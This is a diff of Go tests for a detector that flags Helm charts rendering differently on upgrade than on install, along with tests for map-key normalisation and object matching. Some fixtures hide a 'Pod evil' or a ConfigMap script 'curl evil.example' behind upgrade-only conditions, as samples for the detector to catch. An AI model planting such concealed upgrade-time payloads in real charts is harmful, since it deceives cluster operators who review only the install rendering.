@@ -1,7 +1,9 @@
 package chart
 
 import (
+	"reflect"
 	"runtime"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -66,6 +68,9 @@ func TestTellsHelmFromHelmproof(t *testing.T) {
 		"minor that suffixes hide":    {template: `{{ if semverCompare ">=1.20" .Capabilities.KubeVersion.GitVersion }}` + evil + `{{ end }}`, shown: true, want: "on a provider's cluster: it renders no Pod evil, which an install does"},
 		"no document":                 {template: `{{ if .Release.IsUpgrade }}- x: [{{ end }}`, want: "what is no object in templates/x.yaml, which an install does not"},
 
+		"a key of revision 1": {template: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"c"},"data":{ {{ if .Release.IsUpgrade }}"run-1.sh":"curl evil.example","run-{{ .Release.Revision }}.sh":"true"{{ else }}"run-1.sh":"true"{{ end }} }}`, want: "another ConfigMap c than an install, in data"},
+
+		"key of a revision":           {template: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"c"},"data":{"run-{{ .Release.Revision }}.sh":"true","run-0.sh":"x"}}`},
 		"revision compared to 1":      {template: `{{ if gt (int .Release.Revision) 0 }}` + evil + `{{ end }}`, shown: true},
 		"name of a release":           {template: `{{ if eq (get .Release "Name") "x" }}{{ end }}`},
 		"revision in a label":         {template: `{"apiVersion":"v1","kind":"Job","metadata":{"name":"p-{{ .Release.Revision }}","labels":{"r":"{{ .Release.Revision }}"}}}`},
@@ -97,6 +102,75 @@ func TestTellsHelmFromHelmproof(t *testing.T) {
 				t.Errorf("said %q, want %q", said, tt.want)
 			}
 		})
+	}
+}
+
+// TestComparable: what two renderings are compared by is the same each time, and two
+// keys of one mapping stay two.
+func TestComparable(t *testing.T) {
+	t.Parallel()
+	for name, tt := range map[string]struct{ in, want map[string]any }{
+		"one key":            {map[string]any{"run-77.sh": "a"}, map[string]any{"run-1.sh": "a"}},
+		"beside others":      {map[string]any{"run-77.sh": "77", "run-2.sh": "b"}, map[string]any{"run-1.sh": "1", "run-2.sh": "b"}},
+		"beside that of 1":   {map[string]any{"run-77.sh": "a", "run-1.sh": "b"}, map[string]any{"run-77.sh": "a", "run-1.sh": "b"}},
+		"two of two numbers": {map[string]any{"77-1": "a", "1-77": "b"}, map[string]any{"77-1": "a", "1-77": "b"}},
+		"beneath":            {map[string]any{"data": map[string]any{"77": "a", "1": "b"}}, map[string]any{"data": map[string]any{"77": "a", "1": "b"}}},
+		"in a list":          {map[string]any{"l": []any{map[string]any{"77": "a", "1": "a"}}}, map[string]any{"l": []any{map[string]any{"77": "a", "1": "a"}}}},
+		"keys of annotations": {map[string]any{"annotations": map[string]any{"x/77": "a", "x/1": "b", "checksum/x": "c"}},
+			map[string]any{"annotations": map[string]any{"x/77": "a", "x/1": "b"}}},
+	} {
+		for range 20 { // Go's order of a map is another one each time
+			if got := comparable(tt.in, "77", ""); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("%s: %v, want %v", name, got, tt.want)
+				break
+			}
+		}
+	}
+}
+
+// TestDifferences: objects are compared with those of their own name, or start of a
+// name, in each run.
+func TestDifferences(t *testing.T) {
+	t.Parallel()
+	job := func(metadata, rev string) string {
+		return `{"apiVersion":"batch/v1","kind":"Job","metadata":{` + metadata + `"annotations":{"rev":"` + rev + `"}}}`
+	}
+	rev := strconv.Itoa(otherRevision)
+	for name, tt := range map[string]struct {
+		base, other map[string]string
+		want        string
+	}{
+		"generated names": {
+			map[string]string{"a": job(`"generateName":"a-",`, "1"), "b": job(`"generateName":"b-",`, "1"), "c": job(`"generateName":"c-",`, "1")},
+			map[string]string{"a": job(`"generateName":"a-",`, rev), "b": job(`"generateName":"b-",`, rev), "c": job(`"generateName":"c-",`, rev)}, "",
+		},
+		"one generated name in two files": {
+			map[string]string{"a": job(`"generateName":"a-",`, "1"), "b": job(`"generateName":"a-","x":1,`, "1")},
+			map[string]string{"a": job(`"generateName":"a-",`, rev), "b": job(`"generateName":"a-","x":1,`, rev)}, "",
+		},
+		"no names": {
+			map[string]string{"a": job("", "1"), "b": job(`"x":1,`, "1"), "c": job(`"x":2,`, "1")},
+			map[string]string{"a": job("", rev), "b": job(`"x":1,`, rev), "c": job(`"x":2,`, rev)}, "",
+		},
+		"another one of a generated name": {
+			map[string]string{"a": job(`"generateName":"a-",`, "1"), "b": job(`"generateName":"b-",`, "1")},
+			map[string]string{"a": job(`"generateName":"a-",`, rev), "b": job(`"generateName":"b-",`, "x")}, "another Job b- than an install, in metadata.annotations.rev",
+		},
+		"another generated name": {
+			map[string]string{"a": job(`"generateName":"a-",`, "1")}, map[string]string{"a": job(`"generateName":"b-",`, "1")},
+			"Job b-, which an install does not; no Job a-, which an install does",
+		},
+		"another one without a name": {
+			map[string]string{"a": job("", "1"), "b": job(`"x":1,`, "1")}, map[string]string{"a": job("", rev), "b": job(`"x":2,`, rev)},
+			"another Job than an install, in metadata.x",
+		},
+	} {
+		for range 20 { // Go's order of a map is another one each time
+			if got := strings.Join(differences(tt.base, tt.other, nil), "; "); got != tt.want {
+				t.Errorf("%s: %q, want %q", name, got, tt.want)
+				break
+			}
+		}
 	}
 }
 
